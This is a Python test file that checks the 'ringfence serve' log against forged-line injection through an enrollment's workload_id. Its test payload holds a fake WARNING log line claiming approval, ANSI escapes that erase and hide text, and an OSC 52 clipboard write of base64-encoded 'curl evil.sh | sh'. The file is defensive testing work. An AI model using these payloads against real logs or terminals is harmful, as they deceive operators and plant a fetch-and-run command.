"""What a caller sends cannot forge lines in ``ringfence serve``'s log (the real command as a
process, over HTTP): an unauthenticated enrollment's ``workload_id`` is held to the workload-id
rule (422 naming the field) before anything logs it, and every record serve's log handlers write
has its control characters escaped."""

from __future__ import annotations

import re
import subprocess
import sys
from pathlib import Path

import httpx

from tests.onprem.serveproc import Server

FORGED = "WARNING:ringfence.control.admin:policy version 7 provisioned by alice: approved"
EVIL = f"x\n{FORGED}\x1b[2K\r\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b[8m"
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]")  # all but the line ends themselves


def _pairing(server: Server, wid: str) -> httpx.Response:
    nonce = httpx.get(f"{server.url}/v1/nonce").json()["nonce"]
    body = {"method": "pairing", "nonce": nonce, "workload_id": wid, "pairing_key": "k"}
    body.update({"agent_key": None, "agent_signature": "AA=="})
    return httpx.post(f"{server.url}/v1/enroll", json=body)


def test_attack_enrollment_workload_id_cannot_forge_serve_log_lines(server: Server) -> None:
    r = _pairing(server, EVIL)
    assert r.status_code == 422 and "workload_id" in r.text, r.text
    # every real id form passes the rule (and is refused for the pairing key it lacks: 401)
    for wid in ("i-0123456789abcdef0", "0b5e0a4c-6f2e-4a8b-9d3c-1e2f3a4b5c6d", "4385638412345678901", "dc1-db-1",
                "host01.corp.example.com", "DC1_DB:1"):  # fmt: skip
        assert _pairing(server, wid).status_code == 401, wid
    server.stop()
    log = server.log.read_text()
    assert FORGED not in log and "\x1b" not in log, log


def test_attack_serve_log_escapes_control_characters_in_every_record(tmp_path: Path) -> None:
    """Defence in depth behind the validation: serve's log set-up (:func:`serve.log_safely`, what
    ``run`` calls, uvicorn's handlers configured as serve configures them) escapes a record's
    message and traceback on every handler."""
    script = f"""
import logging
from ringfence import serve
from types import SimpleNamespace
serve.log_safely()
serve.uvicorn_server(SimpleNamespace(asgi=lambda *a: None))  # configures uvicorn's logging, as in run()
serve.log_safely()
evil = {EVIL!r} + "\\x9b31m\\u2028\\x7f"
logging.getLogger("ringfence.control.agents").warning("enrollment refused: %s", evil)
logging.getLogger("uvicorn.error").warning("uvicorn: %s", evil)
try:
    raise ValueError(evil)
except ValueError:
    logging.getLogger("ringfence.control.agents").exception("flows of %s's report not ingested", "w")
"""
    p = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=60)
    assert p.returncode == 0, p.stderr
    err = p.stderr
    assert not RAW.search(err), repr(err)
    assert not any(x.startswith(FORGED) for x in err.splitlines()), err
    assert err.count("\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07") == 3  # shown, visibly, in each record
    assert "x\\nWARNING:ringfence" in err and "\\x9b31m\\u2028\\x7f" in err
